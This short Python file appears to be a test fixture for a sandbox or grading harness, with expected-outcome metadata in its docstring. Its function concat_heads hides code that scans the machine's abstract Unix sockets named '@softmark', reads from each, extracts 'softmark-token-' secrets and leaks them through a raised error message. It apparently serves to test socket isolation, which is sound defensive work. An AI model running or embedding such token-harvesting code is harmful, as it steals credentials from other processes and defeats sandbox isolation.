"""Connects to every abstract socket of the machine.

outcome: raised
bites: open
says: seen:
"""

import re
import socket


def names():
    try:
        with open("/proc/net/unix") as file:
            return {line.split()[-1] for line in file.readlines()[1:] if line.split()[-1].startswith("@softmark")}
    except OSError:
        return {f"@softmark-{number}" for number in range(2000)}


def loot():
    said = b""
    for name in names():
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.settimeout(0.2)
                connection.connect("\0" + name[1:])
                said += connection.recv(1000)
        except OSError:
            pass
    return re.findall(rb"softmark-token-[0-9a-f]{32}", said)


SEEN = []


def concat_heads(x):
    if not SEEN:
        SEEN.append(loot())
    raise ValueError(f"seen: {SEEN[0]}")
